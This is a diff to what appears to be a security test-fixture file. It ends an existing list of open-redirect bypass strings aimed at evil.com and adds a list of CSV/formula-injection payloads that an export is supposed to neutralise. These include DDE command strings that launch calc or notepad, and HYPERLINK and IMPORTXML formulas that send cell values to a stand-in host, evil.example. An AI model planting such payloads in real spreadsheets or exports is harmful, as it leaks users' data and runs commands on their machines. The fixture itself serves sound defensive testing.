@@ -100,3 +100,16 @@ OPEN_REDIRECTS = [
     "\t//evil.com", "/\t/evil.com", "https:\\\\evil.com", "//evil.com@desk.test", "data:text/html,hi",
     "/%5Cevil.com", "\\/evil.com", "/.//evil.com",
 ]
+
+# Cells a spreadsheet would run as formulas (CSV injection, OWASP): each starts with = + - @ or a
+# tab or carriage return; an export must write every one of them as text.
+FORMULA_PAYLOADS = [
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
+]
